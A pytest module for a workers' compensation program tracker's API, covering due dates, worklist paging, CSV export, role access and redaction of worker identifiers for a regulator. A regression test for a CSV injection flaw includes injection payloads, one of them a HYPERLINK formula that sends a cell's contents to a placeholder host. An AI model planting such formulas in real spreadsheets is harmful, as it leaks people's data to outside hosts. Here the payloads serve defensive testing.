"""Due dates, the worklist and the de-identified regulator over HTTP (API.md revision 2),
on both stores, with API keys as `wht serve` has them.

Expected dates are counted here from the calendar and the pack: admitted Monday
9 March 2026, documentation is due within 5 working days (Monday 16 March; 7:
Wednesday 18 March), re-evaluation and staff conference within 14 days (23 March),
and coverage ends with week 8 (3 May).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from uuid import uuid4

import httpx
import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.auth import install_auth
from service.application import Tracker
from tests.helpers import (
    ADMITTED_ON,
    REFERRED_ON,
    Body,
    admitted,
    discharged,
    event,
    plus,
    referred,
    report,
)

KEYS = [
    ("north", "provider", "clinic-north"),
    ("south", "provider", "clinic-south"),
    ("payer", "payer", None),
    ("auditor", "auditor", None),
    ("regulator", "regulator", None),
    ("admin", "admin", None),
]
# Unique to this module, so a search of an answer cannot hit anything else.
WORKER = {"worker_id": "WID-5521983", "name": "Quinlan Marrowby", "employer": "Zephyrine Haulage"}
CLAIM = "CLM-88231-QX"
SECRETS = (WORKER["worker_id"], WORKER["name"], WORKER["employer"], CLAIM)


@dataclass
class Api:
    client: TestClient
    tokens: dict[str, str]

    def get(self, who: str, url: str, **kw: Any) -> httpx.Response:
        headers = {"Authorization": f"Bearer {self.tokens[who]}", **kw.pop("headers", {})}
        return self.client.get(url, headers=headers, **kw)

    def post(self, who: str, program_id: str, body: Body) -> httpx.Response:
        headers = {"Authorization": f"Bearer {self.tokens[who]}"}
        url = f"/v1/programs/{program_id}/events"
        response = self.client.post(url, json=body, headers=headers)
        assert response.status_code == 201, response.text
        return response


@pytest.fixture
def api(tracker: Tracker) -> Iterator[Api]:
    app = create_app(tracker)
    store = install_auth(app, tracker)
    tokens = {name: store.add_key(role, provider, name)[1] for name, role, provider in KEYS}
    with TestClient(app, raise_server_exceptions=False) as client:
        yield Api(client, tokens)


def person(**data: Any) -> Body:
    """A referral of this module's worker and claim (its injury not shown reported, so
    that the REF-1 finding's message quotes the claim number)."""
    body = referred()
    body["data"]["worker"] = {**body["data"]["worker"], **WORKER}
    body["data"]["claim"] = {
        **body["data"]["claim"],
        "claim_number": CLAIM,
        "compensable_injury_reported": False,
    }
    body["data"].update(data)
    return body


def program(api: Api, who: str = "north", provider: str = "clinic-north") -> str:
    pid = str(uuid4())
    api.post(who, pid, person(provider_id=provider))
    api.post(who, pid, admitted())
    return pid


def test_due_lists_each_obligation_with_its_date_status_and_the_budgets(api: Api) -> None:
    pid = program(api)
    answer = api.get("payer", f"/v1/programs/{pid}/due", params={"as_of": "2026-03-17"})
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert set(body) == {"program_id", "as_of", "known_at", "obligations", "budgets"}
    assert (body["program_id"], body["as_of"]) == (pid, "2026-03-17")
    assert body["obligations"] == [
        {
            "kind": "evaluation_documentation",
            "clause": "TS-e",
            "due_on": "2026-03-16",
            "status": "missed",
            "violation_on": "2026-03-18",
        },
        {"kind": "reevaluation", "clause": "TS-i", "due_on": "2026-03-23", "status": "open"},
        {"kind": "staff_conference", "clause": "TS-j", "due_on": "2026-03-23", "status": "open"},
        {"kind": "coverage_end", "clause": "COV-2", "due_on": "2026-05-03", "status": "open"},
    ]
    assert body["budgets"] == {
        "absence_equivalents_left": 3,
        "days_left_this_week": 5,  # week 2 runs 16-22 March; nothing attended yet
        "weeks_left": 6,
        "reimbursable_hours_used": 0,
    }


def test_due_answers_as_compliance_does_for_roles_unknown_programs_and_known_at(
    api: Api,
) -> None:
    pid = program(api)
    url = f"/v1/programs/{pid}/due"
    got = {who: api.get(who, url).status_code for who, _, _ in KEYS}
    assert got == {
        "north": 200,
        "south": 404,
        "payer": 200,
        "auditor": 200,
        "regulator": 200,
        "admin": 403,
    }
    assert api.get("payer", f"/v1/programs/{uuid4()}/due").status_code == 404
    early = api.get("payer", url, params={"known_at": "2000-01-01T00:00:00Z"})
    assert early.status_code == 404
    assert api.get("payer", url, params={"as_of": "March"}).status_code == 422


def test_after_discharge_the_report_is_due(api: Api) -> None:
    pid = program(api)
    api.post("north", pid, discharged(plus(ADMITTED_ON, 3)))
    kinds = api.get("payer", f"/v1/programs/{pid}/due", params={"as_of": "2026-03-12"}).json()
    assert [(o["kind"], o["due_on"]) for o in kinds["obligations"]] == [
        ("evaluation_documentation", "2026-03-16"),
        ("discharge_report", "2026-03-26"),
    ]


def worklist(api: Api, who: str, **params: Any) -> dict[str, Any]:
    answer = api.get(who, "/v1/worklist", params=params)
    assert answer.status_code == 200, answer.text
    body: dict[str, Any] = answer.json()
    return body


def test_the_worklist_lists_missed_and_soon_due_obligations_by_date_then_program(
    api: Api,
) -> None:
    north = sorted([program(api), program(api)])
    south = program(api, "south", "clinic-south")
    body = worklist(api, "payer", as_of="2026-03-17", due_within=7)
    assert set(body) == {"items", "next_cursor", "as_of", "known_at"}
    assert body["next_cursor"] is None and body["as_of"] == "2026-03-17"
    items = body["items"]
    # Documentation was due 16 March (missed); re-evaluation and conference 23 March
    # (within 7 days); coverage ends 3 May (not within 7 days).
    want = sorted(
        [
            (d, p, k)
            for p in [*north, south]
            for d, k in [("2026-03-16", "evaluation_documentation")]
        ]
        + [
            (d, p, k)
            for p in [*north, south]
            for d, k in [("2026-03-23", "reevaluation"), ("2026-03-23", "staff_conference")]
        ]
    )
    assert [(i["due_on"], i["program_id"], i["kind"]) for i in items] == want
    first = items[0]
    assert first["status"] == "missed" and first["clause"] == "TS-e"
    assert first["violation_on"] == "2026-03-18"
    assert (first["worker_name"], first["claim_number"]) == (WORKER["name"], CLAIM)
    assert {i["provider_id"] for i in items} == {"clinic-north", "clinic-south"}
    # Within 0 days: only what is missed or due that very day.
    none_soon = worklist(api, "payer", as_of="2026-03-17", due_within=0)["items"]
    assert {i["kind"] for i in none_soon} == {"evaluation_documentation"}


def test_a_provider_sees_only_its_own_programs_and_the_regulator_no_names(api: Api) -> None:
    north = program(api)
    south = program(api, "south", "clinic-south")
    own = worklist(api, "north", as_of="2026-03-17")["items"]
    assert {i["program_id"] for i in own} == {north}
    assert worklist(api, "north", as_of="2026-03-17", provider_id="clinic-south")["items"] == []
    regulator = worklist(api, "regulator", as_of="2026-03-17")["items"]
    assert {i["program_id"] for i in regulator} == {north, south}
    assert all("worker_name" not in i and "claim_number" not in i for i in regulator)
    assert api.get("admin", "/v1/worklist").status_code == 403


def test_the_worklist_pages_with_its_cursor_and_refuses_a_forged_one(api: Api) -> None:
    for _ in range(3):
        program(api)
    whole = worklist(api, "payer", as_of="2026-03-17")["items"]
    seen: list[dict[str, Any]] = []
    params: dict[str, Any] = {"as_of": "2026-03-17", "limit": 2}
    while True:
        page = worklist(api, "payer", **params)
        seen += page["items"]
        if page["next_cursor"] is None:
            break
        params["cursor"] = page["next_cursor"]
    assert seen == whole and len(whole) == 9
    forged = api.get("payer", "/v1/worklist", params={"cursor": "not-a-cursor"})
    assert forged.status_code == 422
    assert forged.headers["content-type"] == "application/problem+json"


@pytest.mark.parametrize("how", ["format", "accept"])
def test_the_worklist_comes_as_csv(api: Api, how: str) -> None:
    pid = program(api)
    params: dict[str, Any] = {"as_of": "2026-03-17"}
    headers = {}
    if how == "format":
        params["format"] = "csv"
    else:
        headers["Accept"] = "text/csv"
    answer = api.get("payer", "/v1/worklist", params=params, headers=headers)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [(r["program_id"], r["kind"], r["status"]) for r in rows] == [
        (pid, "evaluation_documentation", "missed"),
        (pid, "reevaluation", "open"),
        (pid, "staff_conference", "open"),
    ]
    assert rows[0]["worker_name"] == WORKER["name"] and rows[0]["claim_number"] == CLAIM
    regulator = api.get("regulator", "/v1/worklist", params=params, headers=headers)
    assert "worker_name" not in regulator.text.splitlines()[0]


FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(api: Api) -> None:
    """Issue 23, item 8: a worker's name or claim number beginning with = + - @ was
    exported as it stood, and a spreadsheet opening the worklist ran it as a formula.
    Each such cell now starts with a quote (OWASP's CSV injection advice), and reads
    back as the text it was."""
    sent = []
    for formula in FORMULAS:
        pid = str(uuid4())
        body = person(provider_id="clinic-north")
        body["data"]["worker"]["name"] = formula
        body["data"]["claim"]["claim_number"] = formula
        api.post("north", pid, body)
        api.post("north", pid, admitted())
        sent.append(pid)
    answer = api.get("payer", "/v1/worklist", params={"as_of": "2026-03-17", "format": "csv"})
    assert answer.status_code == 200
    rows = [r for r in csv.DictReader(io.StringIO(answer.text)) if r["program_id"] in sent]
    assert {r["program_id"] for r in rows} == set(sent)
    for row in rows:
        for column in ("worker_name", "claim_number"):
            cell = row[column]
            assert cell[0] not in "=+-@", (column, cell)
            assert cell.startswith("'") and cell[1:].replace("\\|", "|") in FORMULAS


def regulator_answers(api: Api, who: str, pid: str) -> dict[str, str]:
    """Every answer about the program a key may get, as raw text."""
    got: dict[str, str] = {}
    for path in ("compliance", "events", "billing", "due", "audit"):
        answer = api.get(who, f"/v1/programs/{pid}/{path}", params={"as_of": "2026-04-30"})
        got[path] = answer.text
    for params in ({}, {"format": "csv"}):
        got[f"worklist {params}"] = api.get(who, "/v1/worklist", params=params).text
        got[f"programs {params}"] = api.get(who, "/v1/programs", params=params).text
    api.client.post("/ui/sign-in", data={"key": api.tokens[who]})
    got["program page"] = api.client.get(f"/ui/programs/{pid}?as_of=2026-04-30").text
    got["list page"] = api.client.get("/ui/programs").text
    api.client.cookies.clear()
    return got


def test_no_answer_to_a_regulator_holds_the_workers_name_id_employer_or_claim(
    api: Api,
) -> None:
    pid = program(api)
    # The report's demographics name the worker, in other words than the referral's.
    filed = report(plus(ADMITTED_ON, 10))
    filed["data"]["demographics"] = f"{WORKER['name'].upper()}, 41, of {WORKER['employer']}"
    api.post("north", pid, discharged(plus(ADMITTED_ON, 9)))
    api.post("north", pid, filed)
    # A retracted referral stays in the trail: its identifiers are hidden too.
    assert REFERRED_ON < ADMITTED_ON
    for who in ("regulator", "payer"):
        answers = regulator_answers(api, who, pid)
        found = {name for name, text in answers.items() for s in SECRETS if s in text}
        if who == "regulator":
            assert found == set(), found
            assert "[redacted]" in answers["events"]
        else:  # the control: a payer sees them, so the search above can find them
            assert {"compliance", "events", "program page"} <= found


def test_a_regulator_sees_the_events_of_a_trail_whose_referral_was_corrected(
    api: Api,
) -> None:
    pid = program(api)
    first = api.get("payer", f"/v1/programs/{pid}/events").json()[0]
    api.post(
        "north",
        pid,
        event(
            "EntryRetracted", REFERRED_ON, {"target_event_id": first["event_id"], "reason": "typo"}
        ),
    )
    again = person(provider_id="clinic-north")
    again["data"]["worker"]["name"] = "Quinlan R. Marrowby"
    api.post("north", pid, again)
    text = api.get("regulator", f"/v1/programs/{pid}/events").text
    assert WORKER["name"] not in text and "Quinlan R. Marrowby" not in text


def worklist_page(api: Api, who: str, **params: Any) -> httpx.Response:
    api.client.cookies.clear()
    api.client.post("/ui/sign-in", data={"key": api.tokens[who]})
    answer = api.client.get("/ui/worklist", params=params)
    api.client.cookies.clear()
    return answer


def test_the_worklist_page_lists_programs_with_their_figures_and_next_due_item(
    api: Api,
) -> None:
    north = program(api)
    south = program(api, "south", "clinic-south")
    api.post("south", south, event("SessionLogged", plus(ADMITTED_ON, 1), SESSION))
    answer = worklist_page(api, "payer", as_of="2026-03-17", sort="hours")
    assert answer.status_code == 200, answer.text[:500]
    text = answer.text
    # Both programs, the one with hours first when sorted by hours; each row names its
    # worker, claim, admission, weeks used and its next item: documentation, missed.
    assert text.index(f'data-program="{south}"') < text.index(f'data-program="{north}"')
    assert WORKER["name"] in text and CLAIM in text and "2026-03-09" in text
    assert "2 of 8" in text and 'data-kind="evaluation_documentation"' in text
    assert "2026-03-16 (missed)" in text
    mine = worklist_page(api, "north", as_of="2026-03-17").text
    assert north in mine and south not in mine
    regulator = worklist_page(api, "regulator", as_of="2026-03-17").text
    assert north in regulator and south in regulator
    assert [s for s in SECRETS if s in regulator] == []
    assert worklist_page(api, "admin").status_code == 403
    assert worklist_page(api, "payer", sort="nonsense").status_code == 422


SESSION = {
    "hours": 6,
    "provider": {"name": "Dana Ruiz", "discipline": "physical_therapist", "license_number": "P-1"},
    "activities": ["work_simulation"],
    "documented": True,
}
